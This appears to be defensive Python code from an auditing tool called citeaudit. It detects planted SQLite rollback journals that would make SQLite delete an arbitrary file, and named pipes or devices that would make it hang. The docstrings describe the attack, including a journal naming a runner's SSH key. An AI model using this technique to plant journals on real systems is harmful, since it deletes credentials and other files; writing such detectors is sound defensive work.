# SQLite's rollback journal: its magic, and the suffix SQLite puts after a database's name.
_JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
_JOURNAL_SUFFIX = "-journal"


def journal_naming_a_file(path: Path) -> bool:
    """Whether `path` is an SQLite rollback journal (``<database>-journal``) that ends
    with a super-journal's name.

    SQLite writes one only for a transaction over several attached databases, which
    citeaudit never makes. Finding such a journal beside a database it opens ("hot": no
    process holds the database), SQLite plays it back, then opens the file the name
    gives -- anywhere -- reads it as a list of journals, and *deletes* it when none of
    them names it back. A cache folder holding ``links.sqlite3`` and a planted
    ``links.sqlite3-journal`` naming ``/home/runner/.ssh/id_ed25519`` had ``check``
    delete the runner's key. Read without blocking: the last 16
    bytes (the name's length, its checksum, the magic), as SQLite reads them; a
    journal's name that is a link is followed, as SQLite follows it."""
    if not path.name.casefold().endswith(_JOURNAL_SUFFIX):
        return False
    flags = os.O_RDONLY | getattr(os, "O_NONBLOCK", 0) | getattr(os, "O_CLOEXEC", 0)
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):  # a device is not opened at all
            return False
        descriptor = os.open(path, flags | getattr(os, "O_BINARY", 0))
    except (OSError, ValueError):
        return False  # not there: nothing for SQLite to play back
    try:
        status = os.fstat(descriptor)
        if not stat.S_ISREG(status.st_mode) or status.st_size < 16:
            return False
        os.lseek(descriptor, status.st_size - 16, os.SEEK_SET)
        tail = os.read(descriptor, 16)
    except OSError:
        return False
    finally:
        os.close(descriptor)
    length = int.from_bytes(tail[:4], "big")
    return len(tail) == 16 and tail[8:] == _JOURNAL_MAGIC and 0 < length <= status.st_size - 16


def planted_journal(folder: Path) -> Path | None:
    """The first name SQLite must not meet (`sqlite_hazard`) for a database under
    `folder`: a rollback journal naming another file, a named pipe or device, in it or
    beside a database in it (any file, or a link to one) -- SQLite puts the journal
    beside the database's real path, so ``c/links.sqlite3 -> ../data/db`` plays back
    ``data/db-journal``, which the folder does not hold. Links to folders are walked too
    (``c/registry -> ../elsewhere``). None when there is none (or `folder` is not there);
    `folder` itself past `_MOST_VETTED` names (a loop of links included) or when a folder
    inside cannot be listed: a journal behind a thousand decoys is still played back."""
    seen = 0
    pending = [folder]
    while pending:
        top = pending.pop()
        try:
            entries = os.scandir(top)
        except OSError:
            if top == folder:
                continue  # not there yet: nothing to play back
            return folder
        with entries:
            for found in entries:
                seen += 1
                if seen > _MOST_VETTED:
                    return folder
                entry = Path(found.path)
                try:
                    if found.is_dir():  # a link to a folder too: SQLite would follow it
                        pending.append(entry)
                        continue
                    hazard = database_hazard(entry)
                except (OSError, ValueError):
                    return folder
                if hazard is not None:
                    return hazard
    return None


# What SQLite opens for a database: its real path, and beside it these suffixes.
_SQLITE_SIDES = ("", _JOURNAL_SUFFIX, "-wal", "-shm")


def database_hazard(database: Path) -> Path | None:
    """The first name SQLite opens for `database` -- its real path and the journal, WAL
    and shared-memory files beside that path, where SQLite puts them -- that it must not
    meet (`sqlite_hazard`), or None. Raises OSError or ValueError when the path cannot
    be resolved."""
    real = os.path.realpath(database)
    for side in _SQLITE_SIDES:
        if sqlite_hazard(Path(real + side)) is not None:
            return Path(real + side)
    return None


def sqlite_hazard(path: Path) -> str | None:
    """Why SQLite must not meet `path` in a folder it is handed (a database, or the
    journal, WAL or shared-memory file beside one), or None.

    A rollback journal naming another file is played back and that file deleted
    (`journal_naming_a_file`); a named pipe, socket or device is opened by name and
    waited on: a FIFO called ``links.sqlite3-journal`` held ``check`` for good (to its
    time limit, half an hour by default). A name that is not there is none: SQLite
    makes what it needs."""
    try:
        status = os.stat(path)
    except (OSError, ValueError):
        return None
    kind = file_kind(status.st_mode)
    if kind is not None and kind != "a directory":
        return f"{kind}, which SQLite would open and wait on"
    if kind is None and journal_naming_a_file(path):
        return "an SQLite journal naming another file, which SQLite would delete"
    return None


def _folder_bytes(folder: Path) -> int | None:
    """The bytes of the regular files under `folder`; None when it holds too many names
    to count (files and folders alike) or cannot be listed, and the default budget
    stands. A version-control folder (``.git``) is not walked: the audit may read
    nothing in it, and its size, shown in the splice budget, was the runner's.

    Walked with a list of folders still to list, not `os.walk`, which recurses once per
    level on this Python: a checkout of 1,100 nested folders (a path of 2,200
    characters, which git keeps) raised RecursionError out of ``--confine``."""
    total = seen = 0
    pending = [folder]
    while pending:
        top = pending.pop()
        try:
            entries = os.scandir(top)
        except OSError:
            if top == folder:
                return None
            continue  # a folder below that cannot be listed holds nothing we count
        with entries:
            for entry in entries:
                if is_version_control(entry.name):
                    continue  # the runner's: its size is no file of the audit's
                seen += 1
                if seen > _MOST_FILES_COUNTED:
                    return None
                try:
                    if entry.is_dir(follow_symlinks=False):  # links to folders: not walked
                        pending.append(Path(entry.path))
                        continue
                    status = entry.stat(follow_symlinks=False)
                except OSError:
                    continue
                if stat.S_ISREG(status.st_mode):
                    total += status.st_size
    return total
